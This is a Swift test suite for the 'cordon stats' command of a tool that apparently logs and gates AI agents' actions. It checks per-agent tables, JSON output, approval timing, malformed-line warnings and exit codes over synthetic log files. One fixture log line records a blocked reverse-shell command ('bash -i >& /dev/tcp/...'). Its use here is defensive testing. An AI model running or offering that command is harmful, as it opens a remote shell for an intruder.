import CordonBase
// `cordon stats` as a command, in process: output, exit codes and usage errors, over real
// gate.log files in temporary directories.
import Foundation
import Testing

@testable import CordonCLI

/// One gate.log line in DESIGN's format (the chain value is not checked by stats).
private func line(
    _ ts: String, _ decision: String, agent: String, source: String = "gate", cmd: String, reason: String = ""
) -> String {
    func q(_ s: String) -> String {
        "\"" + s.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"") + "\""
    }
    return
        "\(ts) decision=\(decision) score=5 level=safe agent=\(agent) session=s-1 run=r-1 action=a-1 source=\(source) pid=42 rule=\"\" cmd=\(q(cmd)) reasons=\(q(reason)) chain=0123456789abcdef\n"
}

private func logDirectory(_ files: [String: String]) throws -> String {
    let dir = FileManager.default.temporaryDirectory.appendingPathComponent(
        "cordon-stats-\(UUID().uuidString.prefix(8))"
    )
    .path
    try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
    for (name, text) in files { try text.write(toFile: dir + "/" + name, atomically: false, encoding: .utf8) }
    return dir
}

/// Two agents, rotated once: the request is in gate.log.1, its approval (9.5 s later) in gate.log.
private let older =
    line("2026-11-21T10:00:00.000Z", "allow", agent: "ci", cmd: "git status")
    + line("2026-11-21T10:00:01.000Z", "block", agent: "ci", source: "monitor", cmd: "bash -i >& /dev/tcp/x/1 0>&1")
    + line(
        "2026-11-21T10:00:02.000Z", "requested", agent: "ci", source: "approval", cmd: "pip install requests",
        reason: "approval A-7K2Q9 requested")
private let newer =
    line("2026-11-21T11:00:00.000Z", "requires_approval", agent: "ci", cmd: "pip install requests")
    + line(
        "2026-11-21T10:00:11.500Z", "approved", agent: "ci", source: "approval", cmd: "pip install requests",
        reason: "approval A-7K2Q9 approved by alice (uid 1000)")
    + line("2026-11-21T11:00:01.000Z", "allow", agent: "bot", source: "validate", cmd: "web_search {\"q\":\"x\"}")
    + line("2026-11-21T11:00:02.000Z", "allow", agent: "bot", source: "run", cmd: "exit 0")

@Suite("cordon stats", .timeLimit(.minutes(10)))
struct StatsCommandTests {
    @Test("a table per agent and a total, from gate.log and its rotated file")
    func text() throws {
        let dir = try logDirectory(["gate.log.1": older, "gate.log": newer])
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let (code, out, err) = cordon(["stats", "--log-dir", dir])
        #expect(code == 0)
        #expect(err.isEmpty)
        #expect(out.hasPrefix("7 lines in 2 files\n\nagent ci\n  actions                      3\n"), "\(out)")
        #expect(out.contains("  block                        1   33.3%\n"))
        #expect(out.contains("  monitor denials              1\n"))
        #expect(out.contains("  approvals             requested 1, approved 1, rejected 0, expired 0, cancelled 0\n"))
        #expect(out.contains("  median to decide      9.5 s (1 decided)\n"))
        #expect(out.contains("  top programs          bash 1, git 1, pip 1\n"))
        #expect(out.contains("\nagent bot\n  actions                      1\n"))
        #expect(out.contains("  top programs          web_search (tool) 1\n"))
        #expect(out.contains("\ntotal (2 agents)\n  actions                      4\n"))
    }

    @Test("--json is one object; --agent and --since narrow it")
    func json() throws {
        let dir = try logDirectory(["gate.log.1": older, "gate.log": newer])
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let (code, out, _) = cordon(["stats", "--log-dir", dir, "--json", "--agent", "ci"])
        #expect(code == 0)
        let j = try JSONValue.parse(Array(out.utf8))
        #expect(j["files"] == .array([.string(dir + "/gate.log.1"), .string(dir + "/gate.log")]))
        #expect(j["since"] == .null)
        #expect(j["agents"]?.arrayValue?.count == 1)
        let ci = try #require(j["agents"]?[0])
        #expect(ci["agent"] == "ci")
        #expect(ci["actions"] == 3)
        #expect(ci["monitorDenials"] == 1)
        #expect(ci["approvals"]?["medianSecondsToDecide"] == 9.5)
        #expect(ci["topBlocked"] == .array([.object([("name", "bash"), ("kind", "program"), ("count", 1)])]))
        #expect(j["total"]?["actions"] == 3)
        let (_, recent, _) = cordon(["stats", "--log-dir", dir, "--json", "--since", "2026-11-21T10:30:00Z"])
        let r = try JSONValue.parse(Array(recent.utf8))
        #expect(r["since"] == "2026-11-21T10:30:00.000Z")
        #expect(r["total"]?["actions"] == 2)
        #expect(r["total"]?["requires_approval"] == 1)
        #expect(r["total"]?["approvals"]?["approved"] == 0, "the approval at 10:00:11 is before --since")
    }

    @Test("FILEs given on the command line are read as a rotated set, oldest first")
    func files() throws {
        let dir = try logDirectory(["gate.log.1": older, "gate.log": newer])
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let (code, out, _) = cordon(["stats", "--json", dir + "/gate.log", dir + "/gate.log.1"])
        #expect(code == 0)
        let j = try JSONValue.parse(Array(out.utf8))
        #expect(j["lines"] == 7)
        #expect(j["total"]?["approvals"]?["decided"] == 1)
    }

    @Test("malformed lines are warned about with file:line and skipped; past 20 they are only counted")
    func malformed() throws {
        let bad = String(repeating: "not a log line\n", count: 25)
        let dir = try logDirectory(["gate.log": older + "2026-11-21T12:00:00.000Z decision=allow\n" + bad])
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let (code, out, err) = cordon(["stats", "--log-dir", dir, "--json"])
        #expect(code == 0)
        let warnings = err.split(separator: "\n")
        #expect(warnings.count == 21)
        #expect(
            warnings.first
                == "cordon: warning: \(dir)/gate.log:4:26: expected field score, found end of line (line skipped)")
        #expect(warnings.last == "cordon: warning: 6 more malformed lines skipped (26 in all)")
        let j = try JSONValue.parse(Array(out.utf8))
        #expect(j["malformed"] == 26)
        #expect(j["total"]?["actions"] == 2)
    }

    @Test("a log directory with no gate.log yet gives zero counts and exit 0")
    func empty() throws {
        let dir = try logDirectory([:])
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let (code, out, err) = cordon(["stats", "--log-dir", dir, "--json"])
        #expect(code == 0)
        #expect(err == "cordon: note: no gate.log in \(dir) yet: zero counts\n")
        let j = try JSONValue.parse(Array(out.utf8))
        #expect(j["agents"] == .array([]))
        #expect(j["total"]?["actions"] == 0)
        #expect(j["total"]?["shares"]?["allow"] == 0)
        let (textCode, text, _) = cordon(["stats", "--log-dir", dir])
        #expect(textCode == 0)
        #expect(text.hasPrefix("0 lines in 0 files\n\ntotal (0 agents)\n  actions                      0\n"))
    }

    @Test("a FILE that cannot be read exits 65 naming it")
    func unreadable() {
        let (code, out, err) = cordon(["stats", "/nonexistent/gate.log"])
        #expect(code == 65)
        #expect(out.isEmpty)
        #expect(err.hasPrefix("cordon: error: open /nonexistent/gate.log: No such file or directory\nhint: "))
    }

    @Test("usage errors exit 64 with a hint: an unknown option, a bad --since, a missing value")
    func usage() {
        let (c1, _, e1) = cordon(["stats", "--agnet", "x"])
        #expect(c1 == 64)
        #expect(
            e1 == "cordon: error: unknown option --agnet (did you mean --agent?)\nhint: see 'cordon stats --help'\n")
        let (c2, _, e2) = cordon(["stats", "--since", "yesterday"])
        #expect(c2 == 64)
        #expect(e2.hasPrefix("cordon: error: --since yesterday: expected RFC 3339"))
        #expect(e2.hasSuffix("hint: see 'cordon stats --help'\n"))
        let (c3, _, _) = cordon(["stats", "--since"])
        #expect(c3 == 64)
        let (c4, help, _) = cordon(["stats", "--help"])
        #expect(c4 == 0)
        #expect(help.hasPrefix("usage: cordon stats [FILE...]"))
        let (_, top, _) = cordon(["--help"])
        #expect(top.contains("  stats     per-agent actions"))
    }
}
